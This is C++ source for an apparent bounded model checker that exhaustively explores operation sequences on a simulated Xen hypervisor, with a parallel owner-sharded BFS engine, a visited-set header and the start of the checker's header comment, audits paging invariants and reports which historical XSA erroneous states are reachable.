      const hv::SystemWalk walk = hv::walk_system(vmm);
      hv::InvariantReport report = hv::InvariantAuditor{vmm}.audit(walk);
      if (!report.clean()) {
        // Violating states are terminal: the counterexample is minimal by
        // BFS order, and exploring beyond a broken invariant only yields
        // derivative noise.
        record_violation(parent_delta, trace, h, walk, std::move(report));
      } else {
        WorkItem child{std::move(trace),
                       config.use_replay_fallback ? hv::HvDelta{}
                                                  : vmm.snapshot_delta(root),
                       0};
        child.cost = frontier_item_cost(child.prefix,
                                        child.delta.mem_frames.size(),
                                        child.delta.frames.size());
        frontier_bytes += child.cost;
        result.peak_frontier_bytes =
            std::max(result.peak_frontier_bytes, frontier_bytes);
        queue.push_back(std::move(child));
      }
      if (result.states_explored >= config.max_states) {
        result.truncated = true;
        stop = true;
        break;
      }
      restore_parent();
    }
    if (prof != nullptr && parent_applied != 0) {
      const std::string dname = "d" + std::to_string(depth);
      prof->add({obs::kSpanCheck, dname, obs::kSpanExpand}, 1, parent_applied);
      if (parent_audited != 0) {
        prof->add({obs::kSpanCheck, dname, obs::kSpanAudit}, parent_audited,
                  parent_audited);
      }
    }
  }

  const hv::SnapshotStats& stats = vmm.snapshot_stats();
  result.snapshot_frames_copied = stats.frames_copied;
  result.hash_frames_rehashed = stats.frames_rehashed;
  result.delta_restores = stats.delta_restores;
  result.full_restores = stats.full_restores;
  result.cow_captures = stats.cow_captures;
  result.cow_frames_copied = stats.cow_frames_copied;
  result.cow_frames_shared = stats.cow_frames_shared;
  result.ops_executed = result.ops_applied;
  result.shard_occupancy = visited.occupancy();
  return result;
}

// ------------------------------------------ single-pass owner-computes engine
//
// Ownership-partitioned exploration (DESIGN.md §16). The BFS frontier of
// one depth (or one budget-sized chunk of it) runs in a single expansion
// pass — every operation is applied exactly once, the serial engine's op
// count — followed by a parallel owner-shard admission and a parallel
// audit of the admitted states:
//
//   produce (parallel)  workers pull parents from an atomic cursor, restore
//                       them (CoW restore, or replay for spilled parents),
//                       apply the whole alphabet, and record a per-parent
//                       op-outcome byte (unchanged-ok / unchanged-failed /
//                       changed). Each changed successor not already in the
//                       frozen pre-chunk visited set is speculatively
//                       captured as a CoW forest node and posted to
//                       inbox[shard][worker] — the single-writer cell of
//                       the shard that owns its hash.
//   admit  (parallel)   after the barrier each worker walks the shards it
//                       owns (shard % threads == worker). The owner alone
//                       decides admission: candidates sort by (hash,
//                       parent, op) and the first (parent, op) pair of each
//                       new hash — exactly the pair the serial BFS would
//                       have encountered first — is committed. No global
//                       merge, no replay of the visit order.
//   settle (parallel)   admitted claims, sorted into serial (parent, op)
//                       order with the serial max_states cut applied, are
//                       restored from their captured CoW node — no op
//                       re-application — and walked/audited/classified.
//                       A serial assembly then emits violations,
//                       counterexamples and the next frontier in claim
//                       order, spilling states past the frontier budget.
//
// Determinism rests on: admission is a pure function of the candidate set
// (owner order can't matter — candidates carry their serial coordinates);
// op application is a pure function of the restored state; counters and
// the deterministic expand/audit spans are recomputed from the op-outcome
// arrays in serial parent order; and diff lines depend only on contents,
// for which every dirty list is a conservative superset. The visited
// partition is `hash % kDefaultShards` with a fixed shard count, so the
// committed set — and shard_occupancy — never depends on --threads.

/// One worker's private machine and root. All roots must hash identically
/// (asserted at construction time by the driver) — that is what makes one
/// worker's HvDelta meaningful on another worker's machine.
struct ShardWorker {
  Machine machine;
  hv::HvSnapshot root;

  explicit ShardWorker(const ModelCheckConfig& config) : machine{config} {
    machine.vmm.reset_snapshot_stats();
    root = machine.vmm.snapshot();
  }
};

/// A queued state of the sharded engine: its op prefix and its CoW forest
/// node. A spilled item drops both and keeps only its spill-file offset
/// (plus its admission-time cost, which still drives chunking); reloads
/// re-derive the state by replaying the serialized prefix from the root.
struct CowFrontierItem {
  std::vector<Op> prefix;
  hv::HvCowState cow;
  std::uint64_t hash = 0;
  std::uint64_t cost = 0;  ///< frontier_item_cost at admission
  bool spilled = false;
  std::uint64_t spill_offset = 0;
};

/// A speculatively captured successor, posted by its producing worker to
/// the owning shard's inbox. Carries its serial coordinates (chunk-local
/// parent index, alphabet index) so admission order is scheduling-free.
struct Candidate {
  std::uint32_t parent = 0;
  std::uint32_t op = 0;
  std::uint64_t hash = 0;
  Op op_obj;               ///< the producing op (labels the trace)
  hv::HvCowState cow;      ///< captured child — settle never re-applies ops
};

/// Settle-phase audit result for one admitted claim (violating only;
/// clean claims just become next-frontier items).
struct Settled {
  bool violating = false;
  hv::InvariantReport report;
  std::vector<hv::Invariant> violated;
  std::vector<ErroneousStateClass> classes;
  std::vector<std::string> state_diff;
};

/// Per-parent produce-phase outcome byte, the raw material from which the
/// serial counters and the deterministic expand/audit spans are recomputed
/// — uniformly for full and truncated runs.
enum : std::uint8_t {
  kOpUnchangedOk = 0,
  kOpUnchangedFailed = 1,
  kOpChanged = 2,
};

/// Run fn(w) for w in [0, threads), worker 0 on the calling thread. A
/// worker's exception is captured and rethrown after every thread joined
/// (the others drain the shared cursor and exit).
void run_on_workers(unsigned threads, const std::function<void(unsigned)>& fn) {
  std::mutex error_mu;
  std::exception_ptr error;
  const auto wrapped = [&](unsigned w) {
    try {
      fn(w);
    } catch (...) {
      const std::lock_guard<std::mutex> lock{error_mu};
      if (!error) error = std::current_exception();
    }
  };
  std::vector<std::thread> pool;
  pool.reserve(threads - 1);
  for (unsigned w = 1; w < threads; ++w) pool.emplace_back(wrapped, w);
  wrapped(0);
  for (std::thread& t : pool) t.join();
  if (error) std::rethrow_exception(error);
}

ModelCheckResult run_model_check_sharded(const ModelCheckConfig& config,
                                         unsigned threads) {
  ModelCheckResult result;
  result.config = config;
  result.threads_used = threads;

  std::vector<std::unique_ptr<ShardWorker>> workers;
  workers.reserve(threads);
  for (unsigned w = 0; w < threads; ++w) {
    workers.push_back(std::make_unique<ShardWorker>(config));
    if (workers[w]->root.hash != workers[0]->root.hash ||
        workers[w]->root.mem_generation != workers[0]->root.mem_generation) {
      throw std::logic_error{
          "model checker: worker machines did not boot identically"};
    }
  }
  hv::Hypervisor& vmm0 = workers[0]->machine.vmm;
  const hv::HvSnapshot& root = workers[0]->root;
  result.states_explored = 1;

  // Root audit, identical to the serial driver: a dirty boot state is
  // reported and terminal.
  {
    const hv::SystemWalk walk = hv::walk_system(vmm0);
    hv::InvariantReport report = hv::InvariantAuditor{vmm0}.audit(walk);
    if (!report.clean()) {
      ++result.violations_found;
      const auto violated = report.violated_set();
      for (const hv::Invariant inv : violated) {
        ++result.invariant_hits[static_cast<std::size_t>(inv)];
      }
      const auto classes = classify_erroneous_state(vmm0, walk, report);
      for (const ErroneousStateClass c : classes) {
        ++result.class_hits[static_cast<std::size_t>(c)];
      }
      Counterexample cx;
      cx.state_hash = root.hash;
      cx.violated = violated;
      cx.classes = classes;
      const hv::HvDelta root_delta = vmm0.snapshot_delta(root);
      cx.state_diff = diff_states(StateView{root, root_delta},
                                  StateView{root, root_delta});
      cx.report = std::move(report);
      result.counterexamples.push_back(std::move(cx));
      return result;
    }
  }

  // Owner-partitioned visited set: frozen for probes during produce,
  // owner-written during admit, barrier-separated — no locks anywhere.
  ShardedVisited visited;
  const std::size_t n_shards = visited.shard_count();
  visited.owner_insert(visited.shard_of(root.hash), root.hash);

  SpillFile spill{config.spill_dir.empty()
                      ? std::string{}
                      : config.spill_dir + "/frontier.spill"};
  const std::uint64_t budget = config.max_frontier_bytes;
  const bool can_spill = !config.spill_dir.empty() && budget != 0;
  std::vector<std::ifstream> spill_readers(threads);

  std::vector<CowFrontierItem> frontier;
  {
    CowFrontierItem root_item;
    root_item.cow = vmm0.snapshot_cow(root, nullptr, root.mem_generation);
    root_item.hash = root.hash;
    root_item.cost = frontier_item_cost(root_item.prefix, 0, 0);
    frontier.push_back(std::move(root_item));
  }
  std::uint64_t resident = frontier[0].cost;
  result.peak_frontier_bytes = resident;

  // Per-worker scheduling-dependent tallies, folded after the run. Their
  // sums are deterministic (which worker did the work is not).
  std::vector<std::uint64_t> ops_executed_w(threads, 0);
  std::vector<std::uint64_t> spill_reloads_w(threads, 0);

  // Per-worker profilers (shared epoch, worker-numbered lanes) hold the
  // Sched-kind engine spans each worker records for itself; they merge
  // into the main profiler — order-independently — after the run. The
  // deterministic expand/audit spans are recomputed by the serial
  // assembly from the op-outcome arrays, never recorded by workers.
  obs::SpanProfiler* const prof = config.profiler;
  std::vector<std::unique_ptr<obs::SpanProfiler>> wprofs;
  if (prof != nullptr) {
    for (unsigned w = 0; w < threads; ++w) {
      wprofs.push_back(std::make_unique<obs::SpanProfiler>(prof->epoch()));
      wprofs[w]->set_tid(w);
      wprofs[w]->set_record_events(prof->record_events());
    }
  }

  bool stop = false;
  unsigned level = 0;  // op-prefix length of the current frontier
  while (!frontier.empty() && !stop && level < config.depth) {
    const unsigned depth = level + 1;
    const std::string dname = "d" + std::to_string(depth);
    if (config.status != nullptr) {
      config.status->checker_depth(depth, frontier.size());
      config.status->checker_progress(result.states_explored,
                                      result.violations_found);
    }

    std::vector<CowFrontierItem> next_frontier;
    std::uint64_t next_resident = 0;

    const std::size_t n_parents = frontier.size();
    std::size_t chunk_begin = 0;
    while (chunk_begin < n_parents && !stop) {
      // ---- chunk boundary: fill up to the frontier budget, min one
      // parent. Chunk edges respect serial parent order, so per-chunk
      // admission commits are exactly the serial prefix of the depth.
      std::size_t chunk_end = n_parents;
      if (budget != 0) {
        chunk_end = chunk_begin + 1;
        std::uint64_t chunk_bytes = frontier[chunk_begin].cost;
        while (chunk_end < n_parents &&
               chunk_bytes + frontier[chunk_end].cost <= budget) {
          chunk_bytes += frontier[chunk_end].cost;
          ++chunk_end;
        }
      }
      const std::size_t chunk_n = chunk_end - chunk_begin;

      // ---- produce: apply every op of every chunk parent exactly once.
      std::vector<const hv::HvCowState*> parent_cow(chunk_n, nullptr);
      std::vector<const std::vector<Op>*> parent_prefix(chunk_n, nullptr);
      std::vector<hv::HvCowState> reloaded_cow(chunk_n);
      std::vector<std::vector<Op>> reloaded_prefix(chunk_n);
      std::vector<std::vector<std::uint8_t>> op_outcome(chunk_n);
      // inbox[shard][producer]: each producer appends only to its own
      // cell, each cell is read only after the barrier — race-free by
      // layout, no locks.
      std::vector<std::vector<std::vector<Candidate>>> inbox(
          n_shards, std::vector<std::vector<Candidate>>(threads));
      std::atomic<std::size_t> next_parent{0};
      obs::ScopedSpan produce_span{prof,
                                   {obs::kSpanCheck, dname, obs::kSpanProduce},
                                   obs::SpanKind::Sched};
      run_on_workers(threads, [&](unsigned w) {
        ShardWorker& self = *workers[w];
        hv::Hypervisor& vmm = self.machine.vmm;
        obs::ScopedSpan lane{
            prof != nullptr ? wprofs[w].get() : nullptr,
            {obs::kSpanCheck, dname, obs::kSpanProduce,
             "w" + std::to_string(w)},
            obs::SpanKind::Sched};
        while (true) {
          const std::size_t idx = next_parent.fetch_add(1);
          if (idx >= chunk_n) return;
          const CowFrontierItem& item = frontier[chunk_begin + idx];
          if (item.spilled) {
            // Reload: rewind to the root, replay the serialized prefix,
            // verify the expected hash, re-capture as a parentless node.
            (void)vmm.restore_delta(self.root);
            const std::uint64_t replay_marker = vmm.memory().generation();
            SpillRecord rec = read_spill_record(spill_readers[w], spill.path(),
                                                item.spill_offset);
            for (const Op& op : rec.prefix) (void)apply_op(vmm, op);
            ops_executed_w[w] += rec.prefix.size();
            ++spill_reloads_w[w];
            if (vmm.state_hash() != rec.hash) {
              throw std::logic_error{
                  "model checker: spill replay diverged from its capture"};
            }
            reloaded_cow[idx] =
                vmm.snapshot_cow(self.root, nullptr, replay_marker);
            reloaded_prefix[idx] = std::move(rec.prefix);
            parent_cow[idx] = &reloaded_cow[idx];
            parent_prefix[idx] = &reloaded_prefix[idx];
          } else {
            parent_cow[idx] = &item.cow;
            parent_prefix[idx] = &item.prefix;
            (void)vmm.restore_cow(self.root, item.cow);
          }
          const std::uint64_t parent_hash = item.hash;
          // The capture marker is re-taken after every restore: restores
          // stamp fresh generations, so "written after the marker" is
          // exactly "diverged from the restored parent".
          std::uint64_t marker = vmm.memory().generation();
          const std::vector<Op> alphabet =
              enumerate_ops(vmm, config, self.machine.guests);
          lane.add_steps(alphabet.size());
          ops_executed_w[w] += alphabet.size();
          std::vector<std::uint8_t>& outcome = op_outcome[idx];
          outcome.assign(alphabet.size(), kOpUnchangedOk);
          for (std::uint32_t o = 0; o < alphabet.size(); ++o) {
            const long rc = apply_op(vmm, alphabet[o]);
            const std::uint64_t h = vmm.state_hash();
            if (h == parent_hash) {
              if (rc != hv::kOk) outcome[o] = kOpUnchangedFailed;
              continue;  // nothing changed; nothing to restore
            }
            outcome[o] = kOpChanged;
            // Probe the frozen pre-chunk set: a hash committed at an
            // earlier depth or chunk can never be admitted, so skip its
            // capture. Same-chunk collisions are the owner's call.
            if (!visited.probe(h)) {
              Candidate c;
              c.parent = static_cast<std::uint32_t>(idx);
              c.op = o;
              c.hash = h;
              c.op_obj = alphabet[o];
              c.cow = vmm.snapshot_cow(self.root, parent_cow[idx], marker);
              inbox[visited.shard_of(h)][w].push_back(std::move(c));
            }
            (void)vmm.restore_cow(self.root, *parent_cow[idx]);
            marker = vmm.memory().generation();
          }
        }
      });
      produce_span.end();

      // ---- admit: each owner decides its shards, no cross-shard state.
      std::vector<std::vector<Candidate>> admitted(n_shards);
      obs::ScopedSpan admit_span{prof,
                                 {obs::kSpanCheck, dname, obs::kSpanAdmit},
                                 obs::SpanKind::Sched};
      run_on_workers(threads, [&](unsigned w) {
        obs::ScopedSpan lane{
            prof != nullptr ? wprofs[w].get() : nullptr,
            {obs::kSpanCheck, dname, obs::kSpanAdmit, "w" + std::to_string(w)},
            obs::SpanKind::Sched};
        for (std::size_t s = w; s < n_shards; s += threads) {
          std::size_t total = 0;
          for (unsigned pw = 0; pw < threads; ++pw) {
            total += inbox[s][pw].size();
          }
          if (total == 0) continue;
          lane.add_steps(total);
          std::vector<Candidate> cands;
          cands.reserve(total);
          for (unsigned pw = 0; pw < threads; ++pw) {
            for (Candidate& c : inbox[s][pw]) cands.push_back(std::move(c));
          }
          std::sort(cands.begin(), cands.end(),
                    [](const Candidate& a, const Candidate& b) {
                      if (a.hash != b.hash) return a.hash < b.hash;
                      if (a.parent != b.parent) return a.parent < b.parent;
                      return a.op < b.op;
                    });
          for (std::size_t i = 0; i < cands.size();) {
            std::size_t j = i;
            while (j < cands.size() && cands[j].hash == cands[i].hash) ++j;
            // The owner alone admits: the first (parent, op) pair of a
            // new hash is the pair the serial BFS encounters first.
            if (visited.owner_insert(s, cands[i].hash)) {
              admitted[s].push_back(std::move(cands[i]));
            }
            i = j;
          }
        }
      });
      admit_span.end();

      // ---- assembly 1 (serial): serial claim order, truncation cut,
      // counters and the deterministic expand/audit spans.
      std::vector<Candidate> claims;
      {
        std::size_t total = 0;
        for (std::size_t s = 0; s < n_shards; ++s) total += admitted[s].size();
        claims.reserve(total);
        for (std::size_t s = 0; s < n_shards; ++s) {
          for (Candidate& c : admitted[s]) claims.push_back(std::move(c));
        }
      }
      std::sort(claims.begin(), claims.end(),
                [](const Candidate& a, const Candidate& b) {
                  return a.parent != b.parent ? a.parent < b.parent
                                              : a.op < b.op;
                });
      // The serial BFS stops right after the admission that reaches
      // max_states; later pairs were never executed there and must not be
      // counted, audited or queued here. (Hashes past the cut stay in the
      // visited set — visible only through shard_occupancy on truncated
      // runs, never in the report.)
      const std::uint64_t allowed = config.max_states - result.states_explored;
      if (claims.size() >= allowed) {
        claims.resize(static_cast<std::size_t>(allowed));
        result.truncated = true;
        stop = true;
      }
      const bool cut = stop;
      const std::uint32_t cut_parent = cut ? claims.back().parent : 0;
      const std::uint32_t cut_op = cut ? claims.back().op : 0;
      std::vector<std::uint64_t> audited(chunk_n, 0);
      for (const Candidate& c : claims) ++audited[c.parent];
      std::uint64_t changed_total = 0;
      for (std::size_t idx = 0; idx < chunk_n; ++idx) {
        if (cut && idx > cut_parent) break;
        const std::vector<std::uint8_t>& outcome = op_outcome[idx];
        const std::size_t n_ops = cut && idx == cut_parent
                                      ? std::size_t{cut_op} + 1
                                      : outcome.size();
        for (std::size_t o = 0; o < n_ops; ++o) {
          if (outcome[o] == kOpUnchangedFailed) ++result.failed_ops;
          if (outcome[o] == kOpChanged) ++changed_total;
        }
        result.ops_applied += n_ops;
        if (prof != nullptr && n_ops != 0) {
          prof->add({obs::kSpanCheck, dname, obs::kSpanExpand}, 1, n_ops);
          if (audited[idx] != 0) {
            prof->add({obs::kSpanCheck, dname, obs::kSpanAudit}, audited[idx],
                      audited[idx]);
          }
        }
      }
      result.states_explored += claims.size();
      result.states_deduped += changed_total - claims.size();

      // ---- settle: audit the admitted states from their captures — the
      // single-pass payoff: no op is ever applied a second time.
      std::vector<Settled> settled(claims.size());
      std::atomic<std::size_t> next_claim{0};
      obs::ScopedSpan settle_span{prof,
                                  {obs::kSpanCheck, dname, obs::kSpanSettle},
                                  obs::SpanKind::Sched};
      run_on_workers(threads, [&](unsigned w) {
        ShardWorker& self = *workers[w];
        hv::Hypervisor& vmm = self.machine.vmm;
        obs::ScopedSpan lane{
            prof != nullptr ? wprofs[w].get() : nullptr,
            {obs::kSpanCheck, dname, obs::kSpanSettle,
             "w" + std::to_string(w)},
            obs::SpanKind::Sched};
        while (true) {
          const std::size_t i = next_claim.fetch_add(1);
          if (i >= claims.size()) return;
          lane.add_steps(1);
          const Candidate& c = claims[i];
          (void)vmm.restore_cow(self.root, c.cow);
          if (vmm.state_hash() != c.hash) {
            throw std::logic_error{
                "model checker: settled state diverged from its capture"};
          }
          const hv::SystemWalk walk = hv::walk_system(vmm);
          hv::InvariantReport report = hv::InvariantAuditor{vmm}.audit(walk);
          if (report.clean()) continue;
          Settled& s = settled[i];
          s.violating = true;
          s.violated = report.violated_set();
          s.classes = classify_erroneous_state(vmm, walk, report);
          s.state_diff =
              diff_states(StateView{self.root, *parent_cow[c.parent]},
                          StateView{self.root, c.cow});
          s.report = std::move(report);
        }
      });
      settle_span.end();

      // ---- assembly 2 (serial): violations and the next frontier, in
      // claim order; states past the frontier budget spill to disk.
      std::unique_ptr<obs::ScopedSpan> spill_span;
      for (std::size_t i = 0; i < claims.size(); ++i) {
        Candidate& c = claims[i];
        std::vector<Op> trace = *parent_prefix[c.parent];
        trace.push_back(std::move(c.op_obj));
        Settled& s = settled[i];
        if (s.violating) {
          ++result.violations_found;
          for (const hv::Invariant inv : s.violated) {
            ++result.invariant_hits[static_cast<std::size_t>(inv)];
          }
          for (const ErroneousStateClass cls : s.classes) {
            ++result.class_hits[static_cast<std::size_t>(cls)];
          }
          if (result.counterexamples.size() < config.max_counterexamples) {
            Counterexample cx;
            cx.ops = std::move(trace);
            cx.depth = static_cast<unsigned>(cx.ops.size());
            cx.state_hash = c.hash;
            cx.violated = std::move(s.violated);
            cx.classes = std::move(s.classes);
            cx.state_diff = std::move(s.state_diff);
            cx.report = std::move(s.report);
            result.counterexamples.push_back(std::move(cx));
          }
        } else if (!stop) {
          CowFrontierItem child;
          child.hash = c.hash;
          child.cost = frontier_item_cost(trace, c.cow.owned_frames,
                                          c.cow.frames.size());
          if (can_spill && next_resident + child.cost > budget) {
            if (spill_span == nullptr) {
              spill_span = std::make_unique<obs::ScopedSpan>(
                  prof,
                  std::initializer_list<std::string_view>{
                      obs::kSpanCheck, dname, obs::kSpanSpill},
                  obs::SpanKind::Sched);
            }
            child.spilled = true;
            child.spill_offset = spill.append(trace, c.hash);
            ++result.frontier_spilled_items;
          } else {
            child.prefix = std::move(trace);
            child.cow = std::move(c.cow);
            next_resident += child.cost;
          }
          next_frontier.push_back(std::move(child));
        }
      }
      spill.flush();  // workers read these records next depth
      result.frontier_spill_bytes = spill.bytes_written();
      spill_span.reset();

      result.peak_frontier_bytes =
          std::max(result.peak_frontier_bytes, resident + next_resident);
      // ---- release the processed chunk: children alias the frame blocks
      // they still share; everything else frees now, so the resident
      // working set stays bounded by the budget (plus the chunk in
      // flight), not by the depth's full frontier.
      for (std::size_t idx = 0; idx < chunk_n; ++idx) {
        CowFrontierItem& item = frontier[chunk_begin + idx];
        if (!item.spilled) resident -= item.cost;
        item = CowFrontierItem{};
      }
      chunk_begin = chunk_end;
    }

    frontier = std::move(next_frontier);
    resident = next_resident;
    ++level;
  }

  if (prof != nullptr) {
    for (const auto& wp : wprofs) prof->merge(*wp);
  }

  hv::SnapshotStats total{};
  for (const auto& w : workers) total += w->machine.vmm.snapshot_stats();
  result.snapshot_frames_copied = total.frames_copied;
  result.hash_frames_rehashed = total.frames_rehashed;
  result.delta_restores = total.delta_restores;
  result.full_restores = total.full_restores;
  result.cow_captures = total.cow_captures;
  result.cow_frames_copied = total.cow_frames_copied;
  result.cow_frames_shared = total.cow_frames_shared;
  for (unsigned w = 0; w < threads; ++w) {
    result.ops_executed += ops_executed_w[w];
    result.frontier_spill_reloads += spill_reloads_w[w];
  }
  result.shard_occupancy = visited.occupancy();
  return result;
}

}  // namespace

// --------------------------------------------------------------- dispatcher

ModelCheckResult run_model_check(const ModelCheckConfig& config) {
  unsigned threads = config.threads != 0
                         ? config.threads
                         : std::max(1u, std::thread::hardware_concurrency());
  // More workers than cores only adds machines to boot; cap generously.
  threads = std::min(threads, 32u);
  if (config.use_replay_fallback) threads = 1;
  // Spilling lives in the sharded engine only; a single-worker spilling run
  // goes through it too (the reports are byte-identical either way). The
  // replay fallback keeps the plain serial BFS and never spills.
  const bool wants_spill = !config.use_replay_fallback &&
                           !config.spill_dir.empty() &&
                           config.max_frontier_bytes != 0;
  if (config.status != nullptr) config.status->checker_begin();
  ModelCheckResult result;
  {
    // Root of the deterministic span tree; per-depth children hang off it.
    obs::ScopedSpan check_span{config.profiler, obs::kSpanCheck};
    result = threads <= 1 && !wants_spill
                 ? run_model_check_serial(config)
                 : run_model_check_sharded(config, std::max(threads, 1u));
  }
  if (config.status != nullptr) {
    config.status->checker_progress(result.states_explored,
                                    result.violations_found);
    config.status->checker_end();
  }
  return result;
}

// ------------------------------------------------------------------- report

std::string render_report(const ModelCheckResult& r) {
  std::string out;
  out += "model check: xen " + r.config.version.to_string() + ", depth " +
         std::to_string(r.config.depth) + ", " +
         std::to_string(r.config.guest_domains) + " guest(s) of " +
         std::to_string(r.config.domain_pages) + " pages, machine " +
         std::to_string(r.config.machine_frames) + " frames" +
         (r.config.include_grant_ops ? ", grant ops on" : "") + "\n";
  out += "  states explored: " + std::to_string(r.states_explored) +
         "  (ops applied " + std::to_string(r.ops_applied) + ", deduped " +
         std::to_string(r.states_deduped) + ", refused " +
         std::to_string(r.failed_ops) + ")" +
         (r.truncated ? "  [TRUNCATED at max_states]" : "") + "\n";
  out += "  violating states: " + std::to_string(r.violations_found) + "\n";
  out += "  erroneous-state classes:\n";
  for (std::size_t c = 0; c < kErroneousStateClassCount; ++c) {
    out += "    " + to_string(static_cast<ErroneousStateClass>(c)) + ": ";
    out += r.class_hits[c] != 0
               ? "REACHED (" + std::to_string(r.class_hits[c]) + " state(s))"
               : "not reached";
    out += "\n";
  }
  for (std::size_t i = 0; i < r.counterexamples.size(); ++i) {
    const Counterexample& cx = r.counterexamples[i];
    out += "  counterexample #" + std::to_string(i + 1) + " (depth " +
           std::to_string(cx.depth) + ", hash " + hex(cx.state_hash) + ")\n";
    for (std::size_t s = 0; s < cx.ops.size(); ++s) {
      out += "    " + std::to_string(s + 1) + ". " + cx.ops[s].label + "\n";
    }
    out += "    violates:";
    for (const hv::Invariant inv : cx.violated) out += " " + hv::to_string(inv);
    out += "\n";
    out += "    classes:";
    for (const ErroneousStateClass c : cx.classes) out += " [" + to_string(c) + "]";
    out += "\n";
    out += "    state diff vs parent:\n";
    for (const std::string& line : cx.state_diff) {
      out += "      " + line + "\n";
    }
    for (const hv::InvariantFinding& f : cx.report.findings) {
      out += "    finding: " + hv::to_string(f.invariant) + ": " + f.detail +
             "\n";
    }
  }
  return out;
}

std::string render_engine_stats(const ModelCheckResult& r) {
  std::string out =
      "snapshot engine (" + std::to_string(r.threads_used) +
      " worker(s)): " + std::to_string(r.delta_restores) + " delta + " +
      std::to_string(r.full_restores) + " full restores, frames copied " +
      std::to_string(r.snapshot_frames_copied) + ", frame digests redone " +
      std::to_string(r.hash_frames_rehashed) + "\n";
  out += "cow forest: " + std::to_string(r.cow_captures) + " captures, " +
         std::to_string(r.cow_frames_copied) + " frames owned, " +
         std::to_string(r.cow_frames_shared) + " frames shared\n";
  out += "frontier: peak " + std::to_string(r.peak_frontier_bytes) +
         " bytes, " + std::to_string(r.frontier_spilled_items) +
         " spilled (" + std::to_string(r.frontier_spill_bytes) + " bytes, " +
         std::to_string(r.frontier_spill_reloads) + " reloads), ops executed " +
         std::to_string(r.ops_executed) + "\n";
  if (!r.shard_occupancy.empty()) {
    std::uint64_t min_occ = r.shard_occupancy[0];
    std::uint64_t max_occ = r.shard_occupancy[0];
    std::uint64_t total_occ = 0;
    for (const std::uint64_t n : r.shard_occupancy) {
      min_occ = std::min(min_occ, n);
      max_occ = std::max(max_occ, n);
      total_occ += n;
    }
    out += "visited shards: " + std::to_string(r.shard_occupancy.size()) +
           ", occupancy min " + std::to_string(min_occ) + " / max " +
           std::to_string(max_occ) + " / total " + std::to_string(total_occ) +
           "\n";
  }
  return out;
}

GateVerdict evaluate_expectation(const ModelCheckResult& result,
                                 std::string_view expect,
                                 bool allow_truncated) {
  const std::string version = result.config.version.to_string();
  GateVerdict v;
  if (expect == "clean") {
    if (!result.clean()) {
      v.message = "FAIL: expected clean, found " +
                  std::to_string(result.violations_found) +
                  " violating state(s)";
      return v;
    }
    if (result.truncated && !allow_truncated) {
      // "No violation found" means nothing when the search never covered
      // the bounded space: the clipped region could hold one.
      v.message = "FAIL: expected clean, but the search was TRUNCATED at "
                  "max_states (" +
                  std::to_string(result.states_explored) +
                  " states explored); the bounded space was not covered — "
                  "raise --max-states or pass --allow-truncated";
      return v;
    }
    v.pass = true;
    v.message = result.truncated
                    ? "OK: no invariant violation in the TRUNCATED space "
                      "(xen " + version + "; coverage incomplete)"
                    : "OK: no invariant violation in the bounded space (xen " +
                          version + ")";
    return v;
  }
  bool any_xsa = false;
  for (std::size_t c = 0; c + 1 < kErroneousStateClassCount; ++c) {
    any_xsa |= result.reached(static_cast<ErroneousStateClass>(c));
  }
  if (!any_xsa) {
    v.message = "FAIL: expected an XSA erroneous state, none reached";
    return v;
  }
  v.pass = true;
  v.message = "OK: XSA erroneous state(s) reachable (xen " + version + ")";
  return v;
}

}  // namespace ii::analysis
