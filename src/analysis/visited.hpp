// Hash-sharded visited-state set with owner-computes admission
// (DESIGN.md §16).
//
// The single-pass parallel checker partitions dedup by state hash:
// shard = hash % shard_count(), and each worker OWNS the shards with
// shard % threads == worker. The protocol is phase-based and lock-free:
//
//   expand phase    every worker may call probe() — the set is frozen
//                   (no writer exists), so concurrent reads are safe;
//   admission phase every worker calls owner_contains()/owner_insert()
//                   ONLY on shards it owns — disjoint writers, no races;
//   (a barrier separates the phases.)
//
// All mutation lives in visited.cpp behind the owner_* API. The ii_analyze
// rule `visited-ownership` statically rejects direct container mutation or
// iteration of visited sets anywhere else under src/analysis, so the
// protocol cannot silently regress. The sets are never iterated at all —
// unordered-container iteration order is banned from every deterministic
// path (rule D1) — only probed, inserted into, and sized.
#pragma once

#include <cstddef>
#include <cstdint>
#include <unordered_set>
#include <vector>

namespace ii::analysis {

class ShardedVisited {
 public:
  /// 64 shards regardless of thread count: admission decisions are per-hash
  /// and shard-local, so the partition — and with it every report byte —
  /// is independent of how shards map onto workers.
  static constexpr std::size_t kDefaultShards = 64;

  explicit ShardedVisited(std::size_t shards = kDefaultShards);

  [[nodiscard]] std::size_t shard_count() const { return shards_.size(); }
  [[nodiscard]] std::size_t shard_of(std::uint64_t hash) const {
    return hash % shards_.size();
  }

  /// Frozen-phase read, any thread: true if the hash was committed by a
  /// finished admission phase. Must not run concurrently with owner_insert.
  [[nodiscard]] bool probe(std::uint64_t hash) const;

  /// Admission-phase read, owning worker only.
  [[nodiscard]] bool owner_contains(std::size_t shard,
                                    std::uint64_t hash) const;

  /// Admission-phase write, owning worker only. True if newly inserted.
  bool owner_insert(std::size_t shard, std::uint64_t hash);

  /// Per-shard committed-hash counts (the --stats occupancy line).
  [[nodiscard]] std::vector<std::uint64_t> occupancy() const;
  [[nodiscard]] std::uint64_t total() const;

 private:
  struct Shard {
    std::unordered_set<std::uint64_t> hashes;
  };
  std::vector<Shard> shards_;
};

}  // namespace ii::analysis
