// Bounded model checker for the hypervisor state machine.
//
// The paper's verdict logic (erroneous state either causes a security
// violation or is handled) rests on the direct-paging invariants being
// airtight; campaigns only exercise the handful of paths a use case
// happens to drive. This checker closes that gap for small configurations:
// starting from a freshly booted machine with one or two small PV domains,
// it exhaustively enumerates guest-issuable operation sequences
// (mmu_update / pin / unpin / new_baseptr / memory_exchange, optionally the
// grant ops) up to a depth bound, driving the *real* validation engine —
// Hypervisor::validate_and_write_entry, validate_table and the frame-table
// type transitions — and audits every reachable state against all nine
// InvariantAuditor invariants.
//
// Exploration is breadth-first over snapshot/restore (hv/snapshot.hpp)
// with FNV-1a state hashing for dedup and a FIFO work queue, so runs are
// deterministic and every counterexample trace is minimal (no shorter
// operation sequence reaches that violating state). Violating states are
// terminal: the checker reports the op sequence, the violated invariants,
// and a state diff against the parent state, then does not expand further.
//
// The intended theorem, checked by tests and CI: under the 4.6 policy the
// bounded space reaches the paper's XSA erroneous states (XSA-148 superpage
// window at depth 1, XSA-182 writable self map and XSA-212 IDT clobber at
// depth 2, XSA-387 stale grant status with grant ops enabled), while the
// 4.8 and 4.13 policies admit NO invariant violation anywhere in the same
// space.
#pragma once

#include <array>
#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "hv/recovery.hpp"
#include "hv/version.hpp"
#include "sim/types.hpp"

namespace ii::obs {
